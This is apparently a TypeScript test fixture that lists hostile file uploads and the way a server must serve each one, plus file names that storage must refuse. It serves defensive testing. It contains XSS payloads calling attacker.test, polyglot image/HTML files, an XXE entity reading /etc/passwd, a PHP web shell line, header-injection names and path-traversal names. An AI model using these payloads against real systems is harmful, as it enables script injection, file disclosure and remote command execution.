/** Files and names that a hostile visitor could send, with how each must be served (security R12, R13). */

/** A script that reports to the attacker when it runs. */
const CALL = 'fetch("http://attacker.test/ran")'
const SCRIPT = `<script>${CALL}</script>`
const bytes = (...parts: (string | readonly number[])[]) =>
  Buffer.concat(parts.map(part => (typeof part === 'string' ? Buffer.from(part) : Buffer.from(part))))
const latin1 = (text: string) => Buffer.from(text, 'latin1')

const PNG = [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]
const JPEG = [0xff, 0xd8, 0xff, 0xe0]
const ZIP = [0x50, 0x4b, 0x03, 0x04]
const BITMAP = [0x42, 0x4d, 0x46, 0, 0, 0, 0, 0, 0, 0, 0x36, 0, 0, 0, 0x28, 0, 0, 0]
const AVIF = [0, 0, 0, 0x18, ...bytes('ftypmif1'), 0, 0, 0, 0, ...bytes('miafavif')]
const svg = (inside: string) => `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">${inside}</svg>`

/** The browser may display the file. */
export const INLINE = 'inline'
/** The browser must download the file. */
export const ATTACHMENT = 'attachment'
/** The type of everything that is not a known harmless format. */
export const UNKNOWN = 'application/octet-stream'
const TEXT = 'text/plain; charset=utf-8'
const SVG = 'image/svg+xml'

/** A hostile file, and how it must be served. */
export type HostileUpload = {
  readonly what: string
  readonly name: string
  /** The type that the sender declares; null for none. */
  readonly declared: string | null
  readonly bytes: Uint8Array
  readonly servedAs: string
  readonly disposition: typeof INLINE | typeof ATTACHMENT
}

const row = (
  what: string,
  name: string,
  declared: string | null,
  content: string | Uint8Array,
  servedAs: string,
  disposition: HostileUpload['disposition'] = ATTACHMENT,
): HostileUpload => ({
  what,
  name,
  declared,
  bytes: typeof content === 'string' ? Buffer.from(content) : content,
  servedAs,
  disposition,
})

/** All hostile files. */
export const HOSTILE_UPLOADS: readonly HostileUpload[] = [
  row('a page', 'page.html', 'text/html', `<!doctype html>${SCRIPT}`, UNKNOWN),
  row('a page declared as png', 'cat.png', 'image/png', `<html>${SCRIPT}`, UNKNOWN),
  row('a page declared as jpeg', 'cat.jpg', 'image/jpeg', SCRIPT, UNKNOWN),
  row('a page declared as pdf', 'bill.pdf', 'application/pdf', `<body>${SCRIPT}`, UNKNOWN),
  row('a page declared as text', 'a.txt', 'text/plain', `words, then ${SCRIPT}`, UNKNOWN),
  row('a page without a type', 'page', null, `<html>${SCRIPT}`, UNKNOWN),
  row('a page with an empty type', 'page.htm', '', `<html>${SCRIPT}`, UNKNOWN),
  row('a page with two types', 'a.png', 'image/png, text/html', `<html>${SCRIPT}`, UNKNOWN),
  row('a page with a charset of its own', 'a.html', 'text/html; charset=utf-7', '+ADw-script+AD4-', TEXT),
  row('a page behind white space', 'a.txt', 'text/plain', `\n\n\t   <html>${SCRIPT}`, UNKNOWN),
  row('a page behind a byte order mark', 'a.txt', 'text/plain', `\ufeff<html>${SCRIPT}`, UNKNOWN),
  row('a page behind 2 KB of words', 'a.txt', 'text/plain', `${'word '.repeat(400)}${SCRIPT}`, UNKNOWN),
  row('a page in UTF-16', 'a.txt', 'text/plain', Buffer.from(`\ufeff${SCRIPT}`, 'utf16le'), UNKNOWN),
  row('a page with a null byte first', 'a.txt', 'text/plain', `\0<html>${SCRIPT}`, UNKNOWN),
  row('a page in ISO 2022', 'a.txt', 'text/plain', `\x1b$B${SCRIPT}`, UNKNOWN),
  row('a page in broken UTF-8', 'a.txt', 'text/plain', latin1(`\xe9<html>${SCRIPT}`), UNKNOWN),
  row(
    'an event handler alone',
    'a.txt',
    'text/plain',
    '<img src=x onerror=fetch(`http://attacker.test/ran`)>',
    UNKNOWN,
  ),
  row(
    'xhtml',
    'a.xhtml',
    'application/xhtml+xml',
    `<html xmlns="http://www.w3.org/1999/xhtml">${SCRIPT}</html>`,
    UNKNOWN,
  ),
  row('xhtml declared as xml', 'a.xml', 'text/xml', '<?xml version="1.0"?><html/>', UNKNOWN),
  row('xml with a style sheet', 'a.xml', 'application/xml', '<?xml-stylesheet href="x.xsl"?><a/>', UNKNOWN),
  row(
    'xml with entities',
    'a.xml',
    'text/xml',
    '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    UNKNOWN,
  ),
  row('mathml', 'a.mml', 'application/mathml+xml', `<math>${SCRIPT}</math>`, UNKNOWN),
  row('a feed', 'a.rss', 'application/rss+xml', `<rss>${SCRIPT}</rss>`, UNKNOWN),
  row('an svg with a script', 'a.svg', 'image/svg+xml', svg(SCRIPT), SVG),
  row(
    'an svg with a handler',
    'a.svg',
    'image/svg+xml',
    svg("<image href='x' onerror='fetch(`http://attacker.test/ran`)'/>"),
    SVG,
  ),
  row(
    'an svg with a page inside',
    'a.svg',
    'image/svg+xml',
    svg(`<foreignObject>${SCRIPT}</foreignObject>`),
    SVG,
  ),
  row(
    'an svg behind a prologue',
    'a.svg',
    'image/svg+xml',
    `<?xml version="1.0"?><!-- a --><!DOCTYPE svg>${svg(SCRIPT)}`,
    SVG,
  ),
  row('an svg declared as png', 'a.png', 'image/png', svg(SCRIPT), SVG),
  row(
    'an svg with entities',
    'a.svg',
    'image/svg+xml',
    `<!DOCTYPE svg [<!ENTITY a "b">]>${svg('&a;')}`,
    UNKNOWN,
  ),
  row('an svg inside a page', 'a.svg', 'image/svg+xml', `<html>${svg(SCRIPT)}`, UNKNOWN),
  row('an svg packed with gzip', 'a.svgz', 'image/svg+xml', bytes([0x1f, 0x8b, 8, 0]), UNKNOWN),
  row('comments without an end', 'a.svg', 'image/svg+xml', '<!---->'.repeat(50_000), UNKNOWN),
  row('a script', 'a.js', 'text/javascript', CALL, TEXT),
  row('a module of WebAssembly', 'a.wasm', 'application/wasm', bytes('\0asm', [1, 0, 0, 0]), UNKNOWN),
  row('a style sheet', 'a.css', 'text/css', 'body { background: url(//attacker.test) }', TEXT),
  row('a service worker', 'sw.js', 'application/javascript', 'onfetch = event => {}', TEXT),
  row('a cross-domain policy', 'crossdomain.xml', 'text/xml', '<cross-domain-policy/>', UNKNOWN),
  row('a Flash film', 'a.swf', 'application/x-shockwave-flash', bytes('FWS', [14]), UNKNOWN),
  row('an archived page', 'a.mht', 'message/rfc822', `MIME-Version: 1.0\n\n${SCRIPT}`, UNKNOWN),
  row('a program declared as png', 'a.png', 'image/png', bytes('MZ', [0x90, 0, 3, 0]), UNKNOWN),
  row('a program for a Unix', 'a.txt', 'text/plain', bytes([0x7f], 'ELF', [2, 1]), UNKNOWN),
  row('a png with a page behind it', 'a.html', 'text/html', bytes(PNG, SCRIPT), 'image/png', INLINE),
  row('a jpeg with a page behind it', 'a.html', 'text/html', bytes(JPEG, SCRIPT), 'image/jpeg', INLINE),
  row('a gif that is a script', 'a.js', 'text/javascript', `GIF89a=1;${CALL}`, 'image/gif', INLINE),
  row('a bitmap with a page behind it', 'a.bmp', 'text/html', bytes(BITMAP, SCRIPT), 'image/bmp', INLINE),
  row(
    'a webp with a page behind it',
    'a.webp',
    null,
    bytes('RIFF', [9, 0, 0, 0], 'WEBP', SCRIPT),
    'image/webp',
    INLINE,
  ),
  row('an avif with a page behind it', 'a.avif', null, bytes(AVIF, SCRIPT), 'image/avif', INLINE),
  row(
    'a film declared as avif',
    'a.avif',
    'image/avif',
    bytes([0, 0, 0, 16], 'ftypisom', [0, 0, 2, 0]),
    UNKNOWN,
  ),
  row(
    'a brand beyond its box',
    'a.avif',
    'image/avif',
    bytes([0, 0, 0, 16], 'ftypisom', [0, 0, 2, 0], 'avif'),
    UNKNOWN,
  ),
  row('two letters of a bitmap', 'a.bmp', 'image/bmp', `BM=1;${SCRIPT}`, UNKNOWN),
  row('half a mark of png', 'a.png', 'image/png', bytes(PNG.slice(0, 4), SCRIPT), UNKNOWN),
  row('a RIFF that is no webp', 'a.webp', 'image/webp', bytes('RIFF', [9, 0, 0, 0], 'WAVE'), UNKNOWN),
  row(
    'a pdf with a script',
    'a.pdf',
    'text/html',
    `%PDF-1.7 /JS (app.alert(1)) ${SCRIPT}`,
    'application/pdf',
  ),
  row('a pdf behind a page', 'a.pdf', 'application/pdf', `${SCRIPT}%PDF-1.7`, UNKNOWN),
  row('an archive declared as png', 'a.png', 'image/png', bytes(ZIP, SCRIPT), 'application/zip'),
  row('a page in an archive of Java', 'a.jar', 'text/html', bytes(ZIP, 'META-INF'), 'application/zip'),
  row('nothing', 'empty.html', 'text/html', '', TEXT),
  row('a double extension', 'invoice.pdf.html', 'text/html', SCRIPT, UNKNOWN),
  row('an extension of a server', 'shell.php', 'application/x-php', '<?php system($_GET[0]);', UNKNOWN),
  row('settings of a server', '.htaccess', 'text/plain', 'AddType text/html .png', TEXT),
  row('a name with quotes', `a";filename="b.html`, 'text/html', SCRIPT, UNKNOWN),
  row('a name with markup', '<img src=x onerror=alert(1)>.png', 'image/png', SCRIPT, UNKNOWN),
  row('a name of another script', 'תמונה صورة.html', 'text/html', SCRIPT, UNKNOWN),
  row('the longest name', `${'n'.repeat(195)}.html`, 'text/html', SCRIPT, UNKNOWN),
]

/** Names in storage keys that must be refused, with descriptions. */
export const REFUSED_NAMES: readonly (readonly [string, string])[] = [
  ['a right-to-left override', 'photo\u202egnp.exe'],
  ['an isolate', 'photo\u2067gnp.exe'],
  ['a zero-width joiner', 'a\u200d.png'],
  ['a null byte', 'a.png\0.html'],
  ['a line break', 'a\nb.png'],
  ['a second header', 'a.png\r\ncontent-type: text/html'],
  ['a tab', 'a\tb.png'],
  ['an escape', 'a\x1b[2J.png'],
  ['a slash', 'a/b.png'],
  ['a backslash', 'a\\b.png'],
  ['a way out', '../../../etc/passwd'],
  ['a way out of Windows', '..\\..\\boot.ini'],
  ['no name', ''],
  ['one character too many', 'n'.repeat(201)],
]
